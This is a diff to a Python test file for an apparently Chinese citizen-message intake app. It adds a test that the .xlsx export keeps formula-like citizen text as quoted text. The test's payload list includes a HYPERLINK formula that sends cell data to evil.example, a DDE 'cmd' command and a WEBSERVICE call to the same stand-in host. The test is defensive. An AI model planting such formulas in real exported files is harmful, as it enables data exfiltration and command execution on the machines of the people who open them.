@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import io
+
+from openpyxl import load_workbook
 from sqlalchemy import select
 
 from intake.models import Deputy, Message, StaffRole
@@ -9,11 +12,12 @@ from tests.conftest import csrf_token
 from tests.helpers import add_staff, deputies, import_roster, sign_in_staff, write_roster
 
 
-def _messages(app, deputy_ids: list[int]) -> list[int]:
+def _messages(app, deputy_ids: list[int], texts: list[str] | None = None, **fields) -> list[int]:
     """One stored message per listed deputy, in that order; returns their ids."""
+    texts = texts or [f"幸福小区门口的路灯坏了 第{n}条" for n in range(len(deputy_ids))]
     with app.extensions["mashang"].sessions() as session, session.begin():
-        rows = [Message(deputy_id=deputy_id, channel="web", text=f"幸福小区门口的路灯坏了 第{n}条",
-                        receipt=f"R{n:06d}") for n, deputy_id in enumerate(deputy_ids)]
+        rows = [Message(deputy_id=deputy_id, channel="web", text=text, receipt=f"R{n:06d}", **fields)
+                for n, (deputy_id, text) in enumerate(zip(deputy_ids, texts))]
         session.add_all(rows)
         session.flush()
         return [row.id for row in rows]
@@ -52,3 +56,27 @@ def test_audit_search_treats_percent_and_underscore_literally(app, tmp_path):
     for wildcard in ("%", "_", "message_1", "mess%1"):
         page = office.get("/staff/audit", query_string={"q": wildcard}).get_data(as_text=True)
         assert "message:1" not in page, wildcard
+
+
+# --- 2. nothing from outside becomes a formula in the .xlsx export ---------------------------------
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&K2,"点击查看")', "=cmd|' /C calc'!A0", '=WEBSERVICE("http://evil.example")',
+            "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]
+
+
+def test_export_holds_citizen_text_as_text_never_as_a_formula(app, run_jobs, tmp_path):
+    import_roster(app, write_roster(tmp_path))
+    deputy = deputies(app)[0]["id"]
+    _messages(app, [deputy] * len(FORMULAS), FORMULAS, contact_phone="=1+1", share_phone=True)
+    add_staff(app, "qingshi", StaffRole.STATION, "青石街道人大代表联络站")
+    staff = sign_in_staff(app, "qingshi")
+    started = staff.post("/staff/exports", data={"csrf_token": csrf_token(staff, "/staff/")})
+    run_jobs()
+    sheet = load_workbook(io.BytesIO(staff.get(started.headers["Location"] + ".xlsx").data)).active
+    rows = list(sheet.iter_rows(min_row=2))
+    assert len(rows) == len(FORMULAS)
+    formulas = [cell.coordinate for row in rows for cell in row if cell.data_type == "f"]
+    assert formulas == []
+    # What the citizen wrote is all still there, readable, behind a quote that disarms it.
+    shown = sorted(row[9].value.replace("\r", "\n") for row in rows)
+    assert shown == sorted("'" + written.replace("\r", "\n") for written in FORMULAS)
+    assert all(row[10].value == "'=1+1" for row in rows)
